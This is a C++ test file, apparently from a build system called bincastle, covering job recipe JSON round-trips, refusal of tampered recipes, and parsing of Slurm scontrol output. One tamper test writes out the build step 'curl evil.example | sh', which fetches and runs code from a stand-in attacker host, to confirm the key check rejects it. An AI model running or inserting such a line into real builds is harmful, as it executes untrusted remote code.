#include "build/layer_job.hpp"
#include "exec/job_recipe.hpp"
#include "exec/slurm_engine.hpp"
#include "graph/key_encoder.hpp"
#include "plan/plan_graph.hpp"

#include <bincastle/error.hpp>

#include <doctest/doctest.h>

using namespace bincastle;

namespace {

class NoProgress : public ProgressSink {
public:
    void event(const ProgressEvent&) override {}
};

JobRecipe recipe_for(const std::string& layer) {
    Layer base(Name("base"), LocalDir("rootfs"));
    Layer tool(Name("tool"), Dep(base), BuildScript({"make install"}));
    Plan plan = make_plan(Layer(Name("system"), RunDep(tool)));
    Graph graph = graph_of(plan);
    std::vector<Key> keys = compute_keys(graph, [](const LayerData& data) { return hash_bytes("content of " + data.name); });
    for (std::size_t node = 0; node < graph.size(); ++node)
        if (graph.name(node) == layer) return {plan, layer, keys[node], keys};
    FAIL("no layer " << layer);
    return {};
}

std::string refusal(const JobRecipe& recipe) {
    try {
        NoProgress progress;
        build_layer_job(recipe, {"/nonexistent/store", "/bin/false", 1, {}, "127.0.0.1:1/cache", false}, progress);
    } catch (const Error& error) {
        return error.what();
    }
    return "accepted";
}

}  // namespace

TEST_CASE("a job's recipe reads back as itself, and a malformed one is refused") {
    JobRecipe recipe = recipe_for("tool");
    CHECK(job_recipe_from_json(job_recipe_to_json(recipe)) == recipe);
    std::string text = job_recipe_to_json(recipe);
    CHECK_THROWS_WITH_AS(job_recipe_from_json(text.replace(text.find("\"bincastle_job\":1"), 17, "\"bincastle_job\":2")),
                         "the job's recipe: bincastle_job 2 is not version 1", Error);
    recipe.keys.pop_back();
    CHECK_THROWS_WITH_AS(job_recipe_from_json(job_recipe_to_json(recipe)),
                         "the job's recipe gives 2 keys for 3 layers", Error);
}

TEST_CASE("a job refuses a recipe whose key is not its layer's, before it pulls anything") {
    JobRecipe recipe = recipe_for("tool");
    // The script changed after the keys were computed.
    recipe.plan.layers[1].build_script = {"make install; curl evil.example | sh"};
    CHECK(refusal(recipe).find("the job's recipe says layer tool has key " + recipe.key.hex() +
                               ", but its recipe and dependencies give") == 0);
    // A dependency's key changed.
    recipe = recipe_for("tool");
    recipe.keys[0] = hash_bytes("another base");
    CHECK(refusal(recipe).find("but its recipe and dependencies give") != std::string::npos);
    // A source layer is the driver's.
    CHECK(refusal(recipe_for("base")) == "layer base has a source: the driver makes it, not a job");
}

TEST_CASE("scontrol's one-line job records become states, with the node and the reason") {
    auto [id, status] = parse_scontrol_job(
        "JobId=12 JobName=bincastle:shout UserId=me(1000) JobState=RUNNING Reason=None Dependency=(null) "
        "ExitCode=0:0 NodeList=node1 BatchHost=node1 WorkDir=/tmp/a b");
    CHECK(id == "12");
    CHECK(status.state == JobStatus::State::running);
    CHECK(status.node == "node1");
    auto pending = parse_scontrol_job("JobId=13 JobState=PENDING Reason=Resources ExitCode=0:0 NodeList=(null) BatchHost=(null)");
    CHECK(pending.second.state == JobStatus::State::queued);
    CHECK(pending.second.node.empty());
    CHECK(parse_scontrol_job("JobId=14 JobState=FAILED Reason=NonZeroExitCode ExitCode=1:0 NodeList=n2").second.detail ==
          "FAILED (NonZeroExitCode), exit code 1:0");
    CHECK(parse_scontrol_job("JobId=15 JobState=NODE_FAIL ExitCode=0:0").second.state == JobStatus::State::node_failed);
    CHECK(parse_scontrol_job("JobId=16 JobState=COMPLETED ExitCode=0:0").second.state == JobStatus::State::succeeded);
    CHECK(parse_scontrol_job("JobId=17 JobState=COMPLETING ExitCode=0:0").second.state == JobStatus::State::running);
    CHECK(parse_scontrol_job("JobId=18 JobState=TIMEOUT ExitCode=0:15").second.state == JobStatus::State::failed);
    CHECK_THROWS_AS(parse_scontrol_job("JobName=x JobState=RUNNING"), Error);
}
